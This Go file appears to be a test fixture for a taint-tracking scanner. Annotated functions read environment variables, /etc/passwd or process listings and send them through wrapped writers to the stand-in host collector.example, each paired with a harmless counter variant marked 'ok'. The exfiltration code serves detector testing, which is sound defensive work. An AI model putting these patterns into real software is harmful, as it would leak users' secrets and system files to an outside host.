// Writers and readers of the program's own, which libraries write into and read from.
package models

import (
	"archive/zip"
	"bufio"
	"compress/gzip"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"os/exec"
)

const U = "https://collector.example/u"

type sender struct{ conn net.Conn }

func (s *sender) Write(p []byte) (int, error) {
	return s.conn.Write(p) //~ sink(egress.socket) f1, sink(egress.socket) f2, sink(egress.socket) f3, sink(egress.socket) f4, sink(egress.socket) f5, sink(egress.socket) f6, sink(egress.socket) f7, sink(egress.socket) f8, sink(egress.socket) f9, sink(egress.socket) f11, sink(egress.socket) f12, finding(traced) f1, finding(traced) f2, finding(traced) f3, finding(traced) f4, finding(traced) f5, finding(traced) f6, finding(traced) f7, finding(traced) f8, finding(traced) f9, finding(traced) f11, finding(traced) f12
}

// What is written here goes nowhere.
type counter struct{ n int }

func (c *counter) Write(p []byte) (int, error) {
	c.n += len(p)
	return len(p), nil
}

func dial() *sender {
	conn, _ := net.Dial("tcp", "collector.example:443")
	return &sender{conn: conn}
}

func printed() {
	fmt.Fprintf(dial(), "%s", os.Getenv("PRINTED")) //~ source(ENVIRONMENT) f1
	fmt.Fprintf(&counter{}, "%s", os.Getenv("PRINTED")) //~ ok
}

func copied() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f2
	io.Copy(dial(), f)
	io.Copy(&counter{}, f) //~ ok
}

func encoded() {
	json.NewEncoder(dial()).Encode(os.Getenv("ENCODED")) //~ source(ENVIRONMENT) f3
	json.NewEncoder(&counter{}).Encode(os.Getenv("ENCODED")) //~ ok
}

func leveled() {
	w, _ := gzip.NewWriterLevel(dial(), 9)
	w.Write([]byte(os.Getenv("LEVELED"))) //~ source(ENVIRONMENT) f4
	none, _ := gzip.NewWriterLevel(&counter{}, 9) //~ ok
	none.Write([]byte(os.Getenv("LEVELED"))) //~ ok
}

func based() {
	w := base64.NewEncoder(base64.StdEncoding, dial())
	w.Write([]byte(os.Getenv("BASED"))) //~ source(ENVIRONMENT) f5
	none := base64.NewEncoder(base64.StdEncoding, &counter{}) //~ ok
	none.Write([]byte(os.Getenv("BASED")))
}

func several() {
	w := io.MultiWriter(&counter{}, dial())
	io.WriteString(w, os.Getenv("SEVERAL")) //~ source(ENVIRONMENT) f6
	none := io.MultiWriter(&counter{}, &counter{}) //~ ok
	io.WriteString(none, os.Getenv("SEVERAL"))
}

func zipped() {
	z := zip.NewWriter(dial())
	entry, _ := z.Create("passwd")
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f7
	io.Copy(entry, f)
	none := zip.NewWriter(&counter{})
	empty, _ := none.Create("passwd") //~ ok
	io.Copy(empty, f)
}

func buffered() {
	w := bufio.NewWriter(dial())
	w.WriteString(os.Getenv("BUFFERED")) //~ source(ENVIRONMENT) f8
	none := bufio.NewWriter(&counter{})
	none.WriteString(os.Getenv("BUFFERED")) //~ ok
}

func formed() {
	w := multipart.NewWriter(dial())
	w.WriteField("name", os.Getenv("FORMED")) //~ source(ENVIRONMENT) f9
	none := multipart.NewWriter(&counter{})
	none.WriteField("name", os.Getenv("FORMED")) //~ ok
}

func teed() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f11
	io.ReadAll(io.TeeReader(f, dial()))
	io.ReadAll(io.TeeReader(f, &counter{})) //~ ok
}

func run() {
	cmd := exec.Command("ps", "-e")
	cmd.Stdout = dial()
	cmd.Run() //~ source(COMMAND_OUTPUT) f12
	none := exec.Command("ps", "-e")
	none.Stdout = &counter{}
	none.Run() //~ ok
}

func rows() {
	w := csv.NewWriter(&counter{})
	w.Write([]string{os.Getenv("ROWS")}) //~ ok
}

type slow struct{ from io.Reader }

func (s *slow) Read(p []byte) (int, error) { return s.from.Read(p) }

func slowed(from io.Reader) io.Reader { return &slow{from: from} }

type named struct{ name string }

func (n *named) Read(p []byte) (int, error) { return copy(p, "constant"), nil }

func asked() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f13
	request, _ := http.NewRequest("POST", U, slowed(f))
	http.DefaultClient.Do(request) //~ sink(egress.http) f13, finding(traced) f13
	none, _ := http.NewRequest("POST", U, &named{name: "a"}) //~ ok
	http.DefaultClient.Do(none) //~ ok
}

func askedInContext() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f15
	request, _ := http.NewRequestWithContext(nil, "POST", U, slowed(f))
	http.DefaultClient.Do(request) //~ sink(egress.http) f15, finding(traced) f15
	none, _ := http.NewRequestWithContext(nil, "POST", U, &named{name: "a"}) //~ ok
	http.DefaultClient.Do(none) //~ ok
}
